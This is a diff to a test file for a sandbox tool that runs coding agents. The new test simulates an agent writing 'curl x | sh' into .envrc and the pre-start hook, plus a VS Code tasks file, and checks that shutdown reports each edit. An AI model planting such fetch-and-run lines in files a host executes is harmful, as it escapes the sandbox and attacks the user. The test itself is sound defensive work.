@@ -15,6 +15,7 @@ import { DockerEngine } from "../../src/runtime/docker-engine.js";
 import { scriptedOpencodeConfig } from "../../src/scripted-model/opencode-config.js";
 import { startScriptedModel, type ScriptedModel } from "../../src/scripted-model/server.js";
 import { ocbox } from "../helpers/cli.js";
+import { makeProject, useScriptedModel } from "../helpers/project.js";
 
 const engine = new DockerEngine();
 const root = mkdtempSync(join(tmpdir(), "ocbox-host-tools-"));
@@ -151,6 +152,38 @@ describe("ocbox run reports edits to files the host runs later", () => {
     expect(r.stderr).toMatch(/WARNING: the agent added \.git\/hooks\/pre-commit; git runs it as a hook/);
     expect(r.stderr).toMatch(/WARNING: the agent added the script "postinstall" in package\.json/);
     expect(readFileSync(join(ws, "README.md"), "utf8")).toBe("readme\nmore\n");
+  });
+});
+
+describe("ocbox down reports what the agent left for the host to run", () => {
+  it("a session's edits to .envrc, VS Code tasks and the pre-start hook, in --json and as WARNING lines", async () => {
+    const p = await makeProject(root, "proj");
+    expect((await p.run(["init", "--yes"])).code).toBe(0);
+    await useScriptedModel(p, model.url);
+    let down;
+    try {
+      const up = await p.run(["up", "--detach", "--approve-hook"]);
+      expect(up.code, up.stderr).toBe(0);
+      // As the agent: the same user, inside the sandbox, on the live workspace.
+      const edit = await p.run([
+        "exec",
+        "--",
+        "sh",
+        "-c",
+        "echo 'curl x | sh' > /workspace/.envrc && mkdir -p /workspace/.vscode && echo '{}' > /workspace/.vscode/tasks.json && echo 'curl x | sh' >> /workspace/.ocbox/pre-start.sh && echo x >> /workspace/ocbox.yaml.txt",
+      ]);
+      expect(edit.code, edit.stderr).toBe(0);
+    } finally {
+      down = await p.run(["down", "--json"]);
+    }
+    expect(down.code, down.stderr).toBe(0);
+    const report = JSON.parse(down.stdout) as { hostExecutedEdits: Array<Record<string, unknown>> };
+    expect(report.hostExecutedEdits.map((e) => [e.path, e.change])).toEqual([
+      [".envrc", "added"],
+      [".ocbox/pre-start.sh", "modified"],
+      [".vscode/tasks.json", "added"],
+    ]);
+    expect(down.stderr).toMatch(/WARNING: the agent changed \.ocbox\/pre-start\.sh; `ocbox up` sources it/);
   });
 });
 
